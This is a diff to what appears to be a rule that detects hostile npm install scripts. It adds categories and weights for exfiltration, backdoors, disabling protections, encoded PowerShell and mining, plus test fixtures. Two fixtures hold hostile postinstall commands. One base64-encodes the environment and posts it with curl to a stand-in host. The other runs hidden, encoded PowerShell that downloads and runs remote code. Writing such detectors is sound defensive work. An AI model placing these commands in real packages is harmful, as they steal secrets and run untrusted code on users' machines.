@@ -12,27 +12,43 @@ export default defineRule({
       'download-run': '{from} downloads a program and runs it',
       exfiltrate: '{from} sends facts about the machine to another one',
       credentials: '{from} {says}',
-      destroy: '{from} destroys or halts the machine',
+      secret: '{from} sends a secret of the environment to another machine',
+      upload: '{from} sends a file to another machine: {command}',
+      destroy: '{from} destroys what lies on the machine',
+      halt: '{from} halts the machine',
+      backdoor: '{from} lets somebody else in: {command}',
+      disarm: '{from} switches off what protects the machine: {command}',
+      agent: '{from} has a coding agent do what it likes: {command}',
       mine: '{from} mines cryptocurrency',
       persist: '{from} makes something start again and again',
       executable: '{from} starts a program the package brings: {command}',
       'odd-contact': '{from} {says}',
       contact: '{from} contacts another machine: {command}',
+      encoded: '{from} gives PowerShell an encoded command',
       'inline-code': '{from} runs code written in the command',
+      installs: '{from} {says}: {command}',
       'hidden-start': '{from} starts a script out of sight: {command}',
     },
     bits: {
       'reverse-shell': 14,
       'download-run': 14,
-      exfiltrate: 13,
+      exfiltrate: 14,
+      secret: 13.5,
+      upload: 12,
       credentials: 11,
-      destroy: 12,
-      mine: 12,
+      destroy: 14,
+      halt: 13.5,
+      backdoor: 14,
+      disarm: 11,
+      agent: 11,
+      mine: 14,
       persist: 9,
       executable: 9,
-      'odd-contact': 12,
+      'odd-contact': 13.5,
       contact: 8,
+      encoded: 9,
       'inline-code': 6,
+      installs: 4,
       'hidden-start': 5,
     },
   },
@@ -60,6 +76,19 @@ export default defineRule({
         },
       },
       {
+        title: 'a hook sends what a command prints, through a pipe',
+        files: {
+          'package.json':
+            '{"name":"a","version":"1.0.0","scripts":{"postinstall":"env | base64 | curl -X POST --data-binary @- https://collect.invalid"}}',
+        },
+      },
+      {
+        title: 'a hook’s PowerShell is encoded and downloads what it runs',
+        files: {
+          'package.json': `{"name":"a","version":"1.0.0","scripts":{"postinstall":"powershell -w hidden -enc ${Buffer.from("IEX (New-Object Net.WebClient).DownloadString('https://stage.invalid/x')", 'utf16le').toString('base64')}"}}`,
+        },
+      },
+      {
         title: 'a script runs out of sight, twice',
         files: {
           'package.json': '{"name":"a","version":"1.0.0","scripts":{"preinstall":"start /B node a.js & node a.js"}}',
@@ -77,6 +106,13 @@ export default defineRule({
       {
         title: 'git hooks are set up, or not',
         files: { 'package.json': '{"name":"a","version":"1.0.0","scripts":{"postinstall":"husky install || true"}}' },
+      },
+      {
+        title: 'a folder of its own is emptied and filled again',
+        files: {
+          'package.json':
+            '{"name":"a","version":"1.0.0","scripts":{"postinstall":"node -v && rm -rf ./vendor && mkdir vendor && npm install --prefix vendor"}}',
+        },
       },
       {
         title: 'a test script, which no install runs, downloads',
